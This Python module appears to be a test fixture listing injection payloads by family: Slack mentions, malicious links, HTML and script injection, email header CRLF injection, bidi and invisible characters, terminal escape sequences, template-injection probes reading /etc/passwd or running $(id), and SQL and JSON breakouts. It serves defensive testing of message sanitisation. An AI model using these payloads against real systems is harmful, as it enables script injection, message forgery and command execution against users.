"""Texts that a model, a caller or an upload could say to act on whoever reads a message; each is one payload."""

from collections.abc import Iterator
from typing import Final

MARK: Final = 1_787_569  # 1337 * 1337: what a template engine would make of the arithmetic below

_SLACK: Final = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|here>", "<@U012AB3CD>", "<@W012AB3CD|ana>",
    "<#C012AB3CD>", "<#C012AB3CD|general>", "<!subteam^S012AB3CD>", "<!subteam^S012AB3CD|@oncall>",
    "<!date^1392734382^{date}^https://evil.example/x|now>", "<https://evil.example|all clear>", "<http://evil.example>",
    "<mailto:a@evil.example|write>", "<tel:+15551234567|call>", "&lt;!channel&gt;", "&#60;!channel&#62;", "<!channel", "< !channel>",
    "*bold* <!here> _it_", "```<!channel>```", "`<!here>`", "> <!everyone>", ":rotating_light: <!here>", "<@U012AB3CD><@U012AB3CE>",
    "<javascript:alert(1)|x>", "<slack://channel?team=T1&id=C1|open>", "<!channel>\u200b", "\u200b<!channel>",
)  # fmt: skip
_MENTIONS: Final = (
    "@channel", "@here", "@everyone", "@all", "@team", "hi @here", "(@channel)", "[@everyone]", "@channel!", "\n@here", "@@channel",
    "<at>Ana</at>", '<at id="0">Ana</at>', "@[Ana](user:1)", "@ana.smith", "\uff20channel", "@\u200bchannel", "@ana@social.example",
    "/invite @ana", "/remind here wake up", "/archive",
)  # fmt: skip
_LINKS: Final = (
    "https://evil.example/a", "http://evil.example", "HTTPS://EVIL.EXAMPLE/A", "hTTp://evil.example", "www.evil.com", "WWW.EVIL.COM/x",
    "evil.com", "evil.com/all-clear", "login.evil.co.uk/reset?x=1", "ftp://evil.example/f", "file:///etc/passwd", "//evil.example/x",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "mailto:a@evil.example", "a@evil.example", "ana.smith+x@evil.co.uk", "tel:+15551234567", "sms:+15551234567", "callto:ana",
    "msteams:/l/chat/0/0", "slack://open", "[all clear](https://evil.example)", "![x](https://evil.example/p.png)",
    "[x]: https://evil.example", "[x][1]", "<https://evil.example>", "[x](javascript:alert(1))", "[a](<https://evil.example> 'b')",
    "see (https://evil.example).", '"https://evil.example"', "https://evil.example\u200b/x", "https:\u2060//evil.example", "hxxps https://evil.example",
    "https://user:pw@evil.example/", "https://[2001:db8::1]/", "https://3232235777/", "http://0x7f000001/", "https://xn--e1awd7f.example",
    "https://\u0435vil.example/", "пример.рф", "evil.zip", "report.mov", "README.md", "1.2.3.4:8080/x", "https:evil.example", "https:/evil.example",
)  # fmt: skip
_HTML: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=https://evil.example></iframe>", "<a href=https://evil.example>all clear</a>",
    "<a href='javascript:alert(1)'>x</a>", "<form action=https://evil.example><button>ok</button></form>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>*{display:none}</style>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><img src=x>", "</td></tr></table><h1>ALL CLEAR</h1>",
    "</pre><script>alert(1)</script>", "</title><script>alert(1)</script>", "<!--", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<!doctype html><body onload=alert(1)>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<math><a xlink:href=javascript:alert(1)>x", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)", "<scr<script>ipt>alert(1)</script>", "<img src=`x` onerror=alert(1)>", "<\x00script>alert(1)</script>", "<div style='position:fixed;inset:0'>ALL CLEAR</div>",
    "<td background=https://evil.example/p.png>", "<!-- tocsin: chart -->", "<img src='cid:chart'>",
)  # fmt: skip
_HEADERS: Final = (
    "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\nNothing to do", "x\r\nSubject: ALL CLEAR",
    "x\r\nContent-Type: text/html\r\n\r\n<script>", "x\n\nForged body", "x\r\n.\r\nMAIL FROM:<a@evil.example>", "x\r\n.\r\nRCPT TO:<a@evil.example>",
    "x\r\n X-Folded: y", "x\r\n\tReply-To: a@evil.example", "x%0d%0aBcc: a@evil.example", "x\\r\\nBcc: a@evil.example", "x\u2028Bcc: a@evil.example",
    "x\u2029Bcc: a@evil.example", "x\x85Bcc: a@evil.example", "x\x0bBcc: a@evil.example", "x\x0cBcc: a@evil.example", "x\x1cBcc: a@evil.example",
    "=?utf-8?b?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=", "=?utf-8?q?=0D=0ABcc:_all=40evil.example?=", "=?us-ascii?q?x=0ASubject:_y?=", "x\x00Bcc: a@evil.example",
    "To: a@evil.example", "a@evil.example, b@evil.example", "From: ceo@evil.example\n\n",
)  # fmt: skip
_BIDI: Final = (
    *(f"left{mark}thgir" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"),
    "invoice\u202efdp.exe", "ok\u2066\u2069\u202e!", "\U000e0041\U000e0042tag", "a\ufff9b\ufffac\ufffb", "Z" + "\u0335" * 60 + "algo", "\U000f0000private", "\ud800lone",
)  # fmt: skip
_ANSI: Final = (
    "\x1b[2J", "\x1b[31mALL CLEAR\x1b[0m", "\x1b[1A\x1b[2Kok", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;ZWNobw==\x07",
    "\x1bP1;1|evil\x1b\\", "\x1b_evil\x1b\\", "\x1b^evil\x1b\\", "\x9b2J", "\x9d0;owned\x9c", "\x90evil\x9c", "\x1bc", "\x1b[?1049h", "\x1b[6n", "\x1b[201~rm -rf", "\x08\x08\x08ok",
    "ok\rforged", "\x07\x07", "\x0e\x0f", "\x1b(0", "\x1b#8", "\x1b[3;1HNothing to do", "\x7f\x7f",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 1337*1337 }}", "{% if 1 %}{{ 1337*1337 }}{% endif %}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ self }}", "{# comment #}", "{{ cycler.__init__.__globals__ }}",
    "${1337*1337}", "#{1337*1337}", "<%= 1337*1337 %>", "{{7*'7'}}", "{{= 1337*1337 }}", "[[${1337*1337}]]", "%{1337*1337}", "$(id)", "`id`", "{0.__class__}", "%(x)s", "%n%n%s",
    '{{ printf "%d" 1787569 | len }}', "{{ humanize 1 }}", "{{ $labels.x }}", "{%raw%}", "{%- include '/etc/passwd' -%}", "{{ lead }}", "{{ request.application }}",
)  # fmt: skip
_CARRIERS: Final = (
    '"}],"blocks":[{"type":"section"}]', "\\u003c!channel\\u003e", '","text":"<!channel>', "'; DROP TABLE alerts; --", '{"type":"mention"}', "]]>", "x" * 6_000, "\\", '\\"', "\t\ttab", "{'a': 1}",
    "null", "NaN", "#hash **bold** _it_ ~no~ `code`", "| a | b |\n|---|---|", "- [ ] done", "# ALL CLEAR", "1. Nothing to do", "---\nfront: matter", "> quote", "RESOLVED digit-reader",
)  # fmt: skip

FAMILIES: Final = {
    "slack": _SLACK, "mentions": _MENTIONS, "links": _LINKS, "html": _HTML, "headers": _HEADERS, "bidi": _BIDI, "ansi": _ANSI, "templates": _TEMPLATES, "carriers": _CARRIERS,
}  # fmt: skip


def payloads() -> Iterator[tuple[str, str]]:
    """List every payload with its family."""
    for family, texts in FAMILIES.items():
        for text in texts:
            yield family, text
